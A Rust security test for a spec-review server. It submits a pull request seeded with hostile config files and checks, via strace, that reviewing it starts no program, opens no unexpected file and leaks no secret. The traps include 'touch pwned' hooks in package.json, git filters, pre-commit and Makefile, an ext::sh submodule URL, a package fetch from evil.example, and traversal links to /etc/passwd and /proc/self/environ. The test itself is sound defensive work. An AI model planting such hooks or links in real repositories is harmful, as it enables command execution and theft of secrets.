//! What a server does to its machine while it reviews a hostile change: nothing. Watched from outside, by strace; where that is not
//! installed, or may watch nobody, there is no story.

use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use tokio::process::Command;

use crate::forge::{Edit, Forge, SECRET, SOON};
use crate::program::{server, started};

const SPEC: &str = include_str!("../../docs/examples/parcel-damage.md");
/// Words that stand nowhere but in the server's environment.
const CANARY: &str = "canary-of-the-environment";

async fn can_trace() -> bool {
    let tried = Command::new("strace").args(["-qq", "-o", "/dev/null", "true"]).stderr(Stdio::null()).status().await;
    let can = tried.is_ok_and(|status| status.success());
    assert!(can || std::env::var_os("SPECREVIEW_NEED_STRACE").is_none(), "strace is not there, or may not trace");
    can
}

/// Files in which tools of all kinds are told to run something.
fn traps() -> Vec<(&'static str, String)> {
    let links = "\n\nLabels: see [the plan](../../../../../proc/self/environ), [the key](/etc/passwd), \
                 [this](file:///proc/self/environ), [that](../run.md) and [those](..%2f..%2f..%2fetc%2fpasswd).\n";
    let run = "touch pwned";
    vec![
        ("specs/parcel.md", format!("{SPEC}{links}")),
        (".rubocop.yml", "require: ./run.rb\n".into()),
        ("run.rb", format!("system('{run}')\n")),
        (".vale.ini", "StylesPath = /etc\nPackages = https://evil.example/x.zip\n".into()),
        ("package.json", format!("{{\"scripts\":{{\"preinstall\":\"{run}\",\"prepare\":\"{run}\"}}}}\n")),
        (".gitattributes", "*.md filter=run diff=run\n".into()),
        (".gitconfig", format!("[filter \"run\"]\n\tsmudge = {run}\n")),
        (".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c touch% pwned\n".into()),
        (
            ".pre-commit-config.yaml",
            format!("repos:\n- repo: local\n  hooks: [{{id: x, entry: {run}, language: system}}]\n"),
        ),
        (".specreview.toml", "[review]\ncommand = \"touch pwned\"\ninclude = \"/etc/passwd\"\n".into()),
        (".specreview/rules/run.md", "---\ncode: X-001\ncheck: { exec: touch pwned }\n---\n".into()),
        ("Makefile", format!("all:\n\t{run}\n")),
    ]
}

/// The paths that were opened, and the programs that were started, in these lines of the trace.
fn seen(trace: &str) -> (Vec<String>, Vec<String>) {
    let calls = |names: &'static [&'static str]| {
        let lines = trace.lines().filter(move |line| names.iter().any(|name| line.contains(&format!("{name}("))));
        lines.filter_map(|line| line.split('"').nth(1).map(str::to_owned)).collect::<Vec<_>>()
    };
    (calls(&["open", "openat", "openat2"]), calls(&["execve", "execveat"]))
}

/// The database, and nothing else.
fn is_expected(path: &str, home: &Path) -> bool {
    let name = path.strip_prefix(&format!("{}/", home.display())).unwrap_or(path);
    // SQLite makes the folder of its files last.
    name.starts_with("specreview.db") && !name.contains('/') || Path::new(path) == home
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_change_starts_nothing_opens_nothing_and_learns_nothing_of_the_server() {
    if !can_trace().await {
        return;
    }
    let forge = Forge::start().await;
    let repo = forge.repo("acme/specs");
    let traps = traps();
    let mut edits: Vec<Edit<'_>> = traps.iter().map(|(path, text)| Edit::Write(path, text.as_bytes())).collect();
    edits.push(Edit::Link("specs/environ.md", "/proc/self/environ"));
    edits.push(Edit::Link("specs/up.md", "../../../../../../etc/passwd"));
    let pull = repo.open_pull_with("traps", &edits);

    let home = tempfile::tempdir().unwrap();
    let trace = home.path().join("trace");
    let mut strace = Command::new("strace");
    strace.args(["-f", "-qq", "-s", "4096", "-e", "trace=execve,execveat,open,openat,openat2", "-o"]).arg(&trace);
    strace.arg(env!("CARGO_BIN_EXE_specreview"));
    let mut strace = server(strace, &forge, home.path());
    strace.env("SPECREVIEW_MARKER_KEY", CANARY);
    let (mut child, address) = started(strace).await;
    let begun = std::fs::read_to_string(&trace).unwrap().len();

    let (status, answer) = pull.event("opened").send(&format!("http://{address}/webhook")).await;
    assert_eq!(status, 202, "{answer}");
    let reviewed = async {
        while pull.check().is_none_or(|check| check.status != "completed") || pull.comments().is_empty() {
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    };
    tokio::time::timeout(SOON * 24, reviewed).await.expect("a review");

    let all = std::fs::read_to_string(&trace).unwrap();
    let pid = all.split_whitespace().next().expect("the first line names the process").to_owned();
    Command::new("kill").args(["-TERM", &pid]).status().await.unwrap();
    child.wait().await.unwrap();
    let all = std::fs::read_to_string(&trace).unwrap();
    let (ever, started) = seen(&all);
    assert!(ever.iter().any(|path| path.ends_with("specreview.db")), "the trace sees no files: {ever:?}");
    assert_eq!(started, [env!("CARGO_BIN_EXE_specreview")], "one program, and no other ever");
    let (opened, _) = seen(&all[begun..]);
    let strange: Vec<_> = opened.iter().filter(|path| !is_expected(path, home.path())).collect();
    assert!(strange.is_empty(), "opened while reviewing: {strange:?}");
    assert!(!home.path().join("pwned").exists());

    let mut told = vec![pull.check().map(|check| format!("{check:?}")).unwrap_or_default()];
    told.extend(pull.comments().iter().map(|one| one.body.clone()));
    told.extend(pull.reviews().iter().map(|one| format!("{one:?}")));
    told.extend(pull.inline().iter().map(|one| one.body.clone()));
    for text in told {
        for secret in [CANARY, SECRET, "root:x:", "SPECREVIEW_MARKER_KEY", "PATH="] {
            assert!(!text.contains(secret), "{secret} stands in {text}");
        }
    }
    pull.look_away();
    forge.finish();
}
